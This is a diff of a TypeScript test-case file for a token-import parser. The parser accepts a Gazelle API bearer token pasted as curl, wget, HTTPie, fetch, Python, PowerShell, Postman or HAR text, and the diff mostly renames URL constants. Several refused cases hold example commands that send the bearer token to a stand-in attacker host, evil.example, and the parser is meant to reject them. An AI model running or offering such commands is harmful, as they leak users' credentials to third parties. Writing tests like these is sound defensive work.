@@ -1,8 +1,8 @@
 import { type Case, isKeyOf, refused, taken, values } from './case.ts'
 import { har, harEntry } from './writers.ts'
 
-const GRAPHQL = 'https://gazelleapp.io/graphql/private/'
-const EVIL = 'https://evil.example/graphql/private/'
+const graphqlText = 'https://gazelleapp.io/graphql/private/'
+const evilText = 'https://evil.example/graphql/private/'
 const { TOKEN, REFRESH, KEY } = values
 const guide = { access_token: TOKEN, refresh_token: REFRESH, expires_in: 2_592_000, created_at: 1_737_334_800 }
 const json = JSON.stringify(guide)
@@ -18,7 +18,7 @@ export const wrapped: readonly Case[] = [
   taken(
     'a code fence with a language',
     'curl-bash',
-    `\`\`\`bash\ncurl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}'\n\`\`\``,
+    `\`\`\`bash\ncurl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'\n\`\`\``,
   ),
   taken('a code fence within a message', 'bare-token', 'Voici le jeton :\n```\n{{TOKEN}}\n```\nBonne journée'),
   refused('a code fence beside an address', unknownForm, 'For https://evil.example:\n```\n{{TOKEN}}\n```'),
@@ -29,7 +29,11 @@ export const wrapped: readonly Case[] = [
   taken('a quotation', 'bare-token', '> {{TOKEN}}'),
   taken('a quotation of a fence', 'header-line', '> ```\n> Authorization: Bearer {{TOKEN}}\n> ```'),
   taken('a quoted header block', 'header-line', '> Host: gazelleapp.io\n> Authorization: Bearer {{TOKEN}}'),
-  taken('a terminal’s second prompt', 'curl-bash', `$ curl '${GRAPHQL}' \\\n> -H 'Authorization: Bearer {{TOKEN}}'`),
+  taken(
+    'a terminal’s second prompt',
+    'curl-bash',
+    `$ curl '${graphqlText}' \\\n> -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
   taken('“ ”', 'bare-token', '“{{TOKEN}}”'),
   taken('« »', 'bare-token', '«\u00a0{{TOKEN}}\u00a0»'),
   taken('‘ ’', 'bare-token', '‘{{TOKEN}}’'),
@@ -38,38 +42,38 @@ export const wrapped: readonly Case[] = [
   taken('JSON with “ ”', 'row', `{“access_token”: “${TOKEN}”, “refresh_token”: “${REFRESH}”}`, {
     refreshToken: REFRESH,
   }),
-  taken('a long dash for an option', 'curl-bash', `curl “${GRAPHQL}” –header “Authorization: Bearer {{TOKEN}}”`),
+  taken('a long dash for an option', 'curl-bash', `curl “${graphqlText}” –header “Authorization: Bearer {{TOKEN}}”`),
   taken('spaces of a word processor', 'header-line', '\u2003Authorization:\u2009Bearer\u3000{{TOKEN}}\u200a'),
   taken('joiners within', 'bare-token', `\u2060${TOKEN.slice(0, 9)}\u200d${TOKEN.slice(9)}\ufeff`),
   refused(
     'a fence of another host',
     { reason: 'other-host', form: 'curl-bash', host: 'evil.example' },
-    `\`\`\`\ncurl “${EVIL}” -H “Authorization: Bearer {{TOKEN}}”\n\`\`\``,
+    `\`\`\`\ncurl “${evilText}” -H “Authorization: Bearer {{TOKEN}}”\n\`\`\``,
   ),
   refused('two fences', unknownForm, '```\n{{TOKEN}}\n```\n```\n{{REFRESH}}\n```'),
   refused(
     'headers cut from a command elsewhere',
     otherHost('code'),
-    `{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${EVIL}" -Headers $headers`,
+    `{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${evilText}" -Headers $headers`,
   ),
   refused('a fence cut off', unknownForm, '```\n{{TOKEN}}'),
 ]
 
 /** Requests as other tools write them. */
 export const tools: readonly Case[] = [
-  taken('wget', 'wget', `wget ${GRAPHQL} --header='Authorization: Bearer {{TOKEN}}'`),
+  taken('wget', 'wget', `wget ${graphqlText} --header='Authorization: Bearer {{TOKEN}}'`),
   taken(
     'wget, the header apart',
     'wget',
-    `$ wget -qO- --header "Authorization: Bearer {{TOKEN}}" --post-data '{"a":"https://evil.example"}' '${GRAPHQL}'`,
+    `$ wget -qO- --header "Authorization: Bearer {{TOKEN}}" --post-data '{"a":"https://evil.example"}' '${graphqlText}'`,
   ),
   taken(
     'wget over lines',
     'wget',
-    `wget --method POST \\\n  --timeout=0 \\\n  --header 'x-gazelle-api-key: {{KEY}}' \\\n   '${GRAPHQL}'`,
+    `wget --method POST \\\n  --timeout=0 \\\n  --header 'x-gazelle-api-key: {{KEY}}' \\\n   '${graphqlText}'`,
     ofKey,
   ),
-  refused('wget elsewhere', otherHost('wget'), `wget --header='Authorization: Bearer {{TOKEN}}' ${EVIL}`),
+  refused('wget elsewhere', otherHost('wget'), `wget --header='Authorization: Bearer {{TOKEN}}' ${evilText}`),
   refused(
     'wget without a scheme',
     { reason: 'other-host', form: 'wget', host: 'http://gazelleapp.io' },
@@ -78,14 +82,22 @@ export const tools: readonly Case[] = [
   refused(
     'wget, open quote',
     { reason: 'unreadable', form: 'wget' },
-    `wget ${GRAPHQL} --header='Authorization: Bearer {{TOKEN}}`,
+    `wget ${graphqlText} --header='Authorization: Bearer {{TOKEN}}`,
   ),
-  taken('HTTPie', 'httpie', `http POST ${GRAPHQL} Authorization:"Bearer {{TOKEN}}" query='{ a }'`),
-  taken('HTTPie, quoted whole', 'httpie', `http --json POST ${GRAPHQL} 'Authorization: Bearer {{TOKEN}}' Accept:*/*`),
+  taken('HTTPie', 'httpie', `http POST ${graphqlText} Authorization:"Bearer {{TOKEN}}" query='{ a }'`),
+  taken(
+    'HTTPie, quoted whole',
+    'httpie',
+    `http --json POST ${graphqlText} 'Authorization: Bearer {{TOKEN}}' Accept:*/*`,
+  ),
   taken('HTTPie by https', 'httpie', `https gazelleapp.io/graphql/private/ x-gazelle-api-key:{{KEY}}`, ofKey),
   taken('HTTPie, bearer', 'httpie', `https -A bearer -a {{TOKEN}} POST gazelleapp.io/graphql/private/`),
-  taken('xh', 'httpie', `xh post ${GRAPHQL} authorization:'Bearer {{TOKEN}}'`),
-  refused('HTTPie elsewhere', otherHost('httpie'), `http POST ${EVIL} Authorization:"Bearer {{TOKEN}}" a=${GRAPHQL}`),
+  taken('xh', 'httpie', `xh post ${graphqlText} authorization:'Bearer {{TOKEN}}'`),
+  refused(
+    'HTTPie elsewhere',
+    otherHost('httpie'),
+    `http POST ${evilText} Authorization:"Bearer {{TOKEN}}" a=${graphqlText}`,
+  ),
   refused(
     'HTTPie in clear',
     { reason: 'other-host', form: 'httpie', host: 'http://gazelleapp.io' },
@@ -94,27 +106,27 @@ export const tools: readonly Case[] = [
   taken(
     'Firefox, fetch in the console',
     'fetch',
-    `await fetch("${GRAPHQL}", {\n    "credentials": "include",\n    "headers": {\n        "Accept": "*/*",\n        "authorization": "Bearer {{TOKEN}}",\n    },\n    "mode": "cors",\n});`,
+    `await fetch("${graphqlText}", {\n    "credentials": "include",\n    "headers": {\n        "Accept": "*/*",\n        "authorization": "Bearer {{TOKEN}}",\n    },\n    "mode": "cors",\n});`,
   ),
   taken(
     'fetch, headers commented out',
     'fetch',
-    `fetch("${GRAPHQL}", {\n  "headers": {\n    // "accept": "*/*",\n    // "authorization": "Bearer {{TOKEN}}",\n    "content-type": "application/json",\n  },\n  "method": "POST"\n});`,
+    `fetch("${graphqlText}", {\n  "headers": {\n    // "accept": "*/*",\n    // "authorization": "Bearer {{TOKEN}}",\n    "content-type": "application/json",\n  },\n  "method": "POST"\n});`,
   ),
   taken(
     'fetch, the one in use before the one commented out',
     'fetch',
-    `fetch("${GRAPHQL}", {"headers": {\n  // "authorization": "Bearer {{REFRESH}}",\n  "authorization": "Bearer {{TOKEN}}" // mine (it's new)\n}})`,
+    `fetch("${graphqlText}", {"headers": {\n  // "authorization": "Bearer {{REFRESH}}",\n  "authorization": "Bearer {{TOKEN}}" // mine (it's new)\n}})`,
   ),
   taken(
     'fetch, new Headers',
     'fetch',
-    `fetch(\`${GRAPHQL}\`, { method: 'POST', headers: new Headers({ Authorization: 'Bearer ' + '{{TOKEN}}' }) })`,
+    `fetch(\`${graphqlText}\`, { method: 'POST', headers: new Headers({ Authorization: 'Bearer ' + '{{TOKEN}}' }) })`,
   ),
   refused(
     'fetch elsewhere, as code',
     otherHost('fetch'),
-    `fetch('${EVIL}', { headers: { Authorization: 'Bearer {{TOKEN}}' }, })`,
+    `fetch('${evilText}', { headers: { Authorization: 'Bearer {{TOKEN}}' }, })`,
   ),
   refused(
     'fetch by a variable',
@@ -125,23 +137,23 @@ export const tools: readonly Case[] = [
   taken(
     'a call of fetch within code',
     'header-line',
-    `const response = await fetch('${GRAPHQL}', {\n  headers: {\n    Authorization: \`Bearer {{TOKEN}}\`,\n  },\n});`,
+    `const response = await fetch('${graphqlText}', {\n  headers: {\n    Authorization: \`Bearer {{TOKEN}}\`,\n  },\n});`,
   ),
   taken('a list of headers', 'header-line', '[{"name": "Authorization", "value": "Bearer {{TOKEN}}"}]'),
   taken(
     'Python requests',
     'code',
-    `import requests\n\nurl = "${GRAPHQL}"\nheaders = {\n    "Authorization": "Bearer {{TOKEN}}",\n}\nresponse = requests.post(url, headers=headers)`,
+    `import requests\n\nurl = "${graphqlText}"\nheaders = {\n    "Authorization": "Bearer {{TOKEN}}",\n}\nresponse = requests.post(url, headers=headers)`,
   ),
   taken(
     'Python requests, the token by a name',
     'code',
-    `import requests\ntoken = "{{TOKEN}}"\nrequests.post("${GRAPHQL}", headers={"Authorization": f"Bearer {token}"})`,
+    `import requests\ntoken = "{{TOKEN}}"\nrequests.post("${graphqlText}", headers={"Authorization": f"Bearer {token}"})`,
   ),
   taken(
     'axios',
     'code',
-    `const { data } = await axios.post('${GRAPHQL}', body, {\n  headers: { 'Authorization': 'Bearer {{TOKEN}}' },\n})`,
+    `const { data } = await axios.post('${graphqlText}', body, {\n  headers: { 'Authorization': 'Bearer {{TOKEN}}' },\n})`,
   ),
   taken(
     'axios with a base',
@@ -154,21 +166,25 @@ export const tools: readonly Case[] = [
     'code',
     `client.BaseAddress = new Uri("https://gazelleapp.io/");\nclient.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "{{TOKEN}}");`,
   ),
-  taken('Java', 'code', `HttpRequest.newBuilder(URI.create("${GRAPHQL}")).header("Authorization", "Bearer {{TOKEN}}")`),
+  taken(
+    'Java',
+    'code',
+    `HttpRequest.newBuilder(URI.create("${graphqlText}")).header("Authorization", "Bearer {{TOKEN}}")`,
+  ),
   taken(
     'PowerShell, headers by a name',
     'code',
-    `$headers = @{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${GRAPHQL}" -Headers $headers`,
+    `$headers = @{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${graphqlText}" -Headers $headers`,
   ),
   taken(
     'PowerShell, Postman’s',
     'code',
-    `$headers = New-Object "System.Collections.Generic.Dictionary[[String],[String]]"\n$headers.Add("Authorization", "Bearer {{TOKEN}}")\nInvoke-RestMethod '${GRAPHQL}' -Method 'POST' -Headers $headers`,
+    `$headers = New-Object "System.Collections.Generic.Dictionary[[String],[String]]"\n$headers.Add("Authorization", "Bearer {{TOKEN}}")\nInvoke-RestMethod '${graphqlText}' -Method 'POST' -Headers $headers`,
   ),
   refused(
     'Python elsewhere',
     otherHost('code'),
-    `requests.post("${EVIL}", headers={"Authorization": "Bearer {{TOKEN}}"})`,
+    `requests.post("${evilText}", headers={"Authorization": "Bearer {{TOKEN}}"})`,
   ),
   refused(
     'Python by a variable',
@@ -178,12 +194,12 @@ export const tools: readonly Case[] = [
   refused(
     'Python’s placeholder',
     { reason: 'placeholder', form: 'code' },
-    `requests.post("${GRAPHQL}", headers={"Authorization": f"Bearer {token}"})`,
+    `requests.post("${graphqlText}", headers={"Authorization": f"Bearer {token}"})`,
   ),
   taken(
     'a file of requests',
     'header-line',
-    `### clients\nPOST ${GRAPHQL}\nAuthorization: Bearer {{TOKEN}}\nContent-Type: application/json\n\n{"query": "{ a }"}`,
+    `### clients\nPOST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\nContent-Type: application/json\n\n{"query": "{ a }"}`,
   ),
   taken(
     'Firefox, Copy All',
@@ -246,7 +262,7 @@ export const tools: readonly Case[] = [
   taken(
     'one entry of an archive',
     'export',
-    JSON.stringify(harEntry({ url: GRAPHQL, headers: [['authorization', `Bearer ${TOKEN}`]], body: '{}' }, '')),
+    JSON.stringify(harEntry({ url: graphqlText, headers: [['authorization', `Bearer ${TOKEN}`]], body: '{}' }, '')),
   ),
   taken(
     'Postman',
@@ -259,7 +275,7 @@ export const tools: readonly Case[] = [
           request: {
             method: 'POST',
             header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }],
-            url: { raw: GRAPHQL, host: ['gazelleapp', 'io'] },
+            url: { raw: graphqlText, host: ['gazelleapp', 'io'] },
           },
         },
       ],
@@ -274,7 +290,7 @@ export const tools: readonly Case[] = [
           request: {
             auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN, type: 'string' }] },
             header: [],
-            url: { raw: GRAPHQL },
+            url: { raw: graphqlText },
           },
         },
       ],
@@ -288,7 +304,7 @@ export const tools: readonly Case[] = [
       resources: [
         {
           _type: 'request',
-          url: GRAPHQL,
+          url: graphqlText,
           headers: [{ name: 'Accept', value: '*/*' }],
           authentication: { type: 'bearer', token: TOKEN },
         },
@@ -311,26 +327,26 @@ export const tools: readonly Case[] = [
   taken(
     'options of axios',
     'export',
-    `{ url: '${GRAPHQL}', method: 'post', headers: { Authorization: 'Bearer {{TOKEN}}' }, }`,
+    `{ url: '${graphqlText}', method: 'post', headers: { Authorization: 'Bearer {{TOKEN}}' }, }`,
   ),
   refused(
     'Postman elsewhere',
     otherHost('export'),
     JSON.stringify({
-      item: [{ request: { header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: { raw: EVIL } } }],
+      item: [{ request: { header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: { raw: evilText } } }],
     }),
   ),
   refused(
     'Postman, a variable',
     { reason: 'placeholder', form: 'export' },
-    JSON.stringify({ request: { header: [{ key: 'Authorization', value: 'Bearer {{token}}' }], url: GRAPHQL } }),
+    JSON.stringify({ request: { header: [{ key: 'Authorization', value: 'Bearer {{token}}' }], url: graphqlText } }),
   ),
   refused(
     'a sanitised archive with other hosts',
     { reason: 'token-left-out', form: 'har' },
     har(
-      harEntry({ url: GRAPHQL, headers: [['accept', '*/*']], body: '{}' }, ''),
-      harEntry({ url: EVIL, headers: [['authorization', `Bearer ${TOKEN}`]], body: '' }, ''),
+      harEntry({ url: graphqlText, headers: [['accept', '*/*']], body: '{}' }, ''),
+      harEntry({ url: evilText, headers: [['authorization', `Bearer ${TOKEN}`]], body: '' }, ''),
     ),
   ),
   refused(
@@ -397,7 +413,7 @@ export const variables: readonly Case[] = [
     otherHost('variable'),
     `GAZELLE_URL=https://evil.example\nGAZELLE_ACCESS_TOKEN={{TOKEN}}`,
   ),
-  refused('a token beside another address', otherHost('variable'), `url: ${EVIL}\ntoken: {{TOKEN}}`),
+  refused('a token beside another address', otherHost('variable'), `url: ${evilText}\ntoken: {{TOKEN}}`),
   refused('a key of Supabase', isKeyOf('variable', 'supabase-secret'), 'GAZELLE_TOKEN={{SUPABASE_SECRET}}'),
   refused('a placeholder', { reason: 'placeholder', form: 'variable' }, 'GAZELLE_ACCESS_TOKEN=<your-token>'),
   refused('masked', { reason: 'masked', form: 'bare-token' }, 'GAZELLE_ACCESS_TOKEN=****************'),
